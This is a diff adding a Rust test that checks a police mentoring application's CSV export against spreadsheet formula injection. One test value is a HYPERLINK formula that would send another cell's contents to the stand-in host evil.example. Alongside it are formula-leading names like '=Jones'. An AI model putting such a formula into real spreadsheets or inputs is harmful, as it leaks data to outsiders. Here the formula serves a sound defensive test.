@@ -511,3 +511,50 @@ async fn a_refusal_lists_every_reason() {
     })
     .await;
 }
+
+#[tokio::test]
+async fn the_applications_export_is_safe_to_open_in_a_spreadsheet() {
+    on_each_backend(|store| async move {
+        let app = app(store);
+        programme_running(&app).await;
+        let formula = "=HYPERLINK(\"http://evil.example/?\"&A3,\"x\")";
+        let quoted = formula.replace('"', "\"\"");
+        let more = format!("{HEADER}\nS7,police-scotland,=Jones,-Smith,jones@scotland.police.uk,+ Ops,\"{quoted}\",Constable,officer,,2015-01-15,no,no,serving,\n");
+        let request = ImportRequest {
+            bytes: more.as_bytes(),
+            options: ImportOptions::default(),
+            dry_run: false,
+            source: "more.csv",
+        };
+        import(&app, &operator(), request, &|_: ImportStage| {}).await.unwrap();
+        let mentee = person(&app, "police-scotland", "S7").await;
+        let form = ApplicationForm {
+            location: formula.to_owned(),
+            ..mentee_form()
+        };
+        apply(&app, &mentee, "police-scotland", "mentoring", Role::Mentee, &form).await.unwrap();
+
+        let code = OrgCode::parse("police-scotland").unwrap();
+        let exported = applications::export_csv(&app, &operator(), &code, None).await.unwrap();
+        let (marking, table) = exported.split_once('\n').unwrap();
+        assert_eq!(marking, "# OFFICIAL");
+        let mut reader = csv::Reader::from_reader(table.as_bytes());
+        let header = reader.headers().unwrap().clone();
+        let row = reader
+            .records()
+            .map(Result::unwrap)
+            .find(|row| row.get(3) == Some("S7"))
+            .unwrap();
+        let cell = |name: &str| row.get(header.iter().position(|it| it == name).unwrap()).unwrap().to_owned();
+        assert_eq!(cell("first_name"), "'=Jones");
+        assert_eq!(cell("last_name"), "'-Smith");
+        assert_eq!(cell("department"), "'+ Ops");
+        assert_eq!(cell("location"), format!("'{formula}"));
+        assert_eq!(cell("staff_number"), "S7");
+        assert_eq!(cell("status"), "approved");
+        for cell in &row {
+            assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "{cell:?} in {row:?}");
+        }
+    })
+    .await;
+}
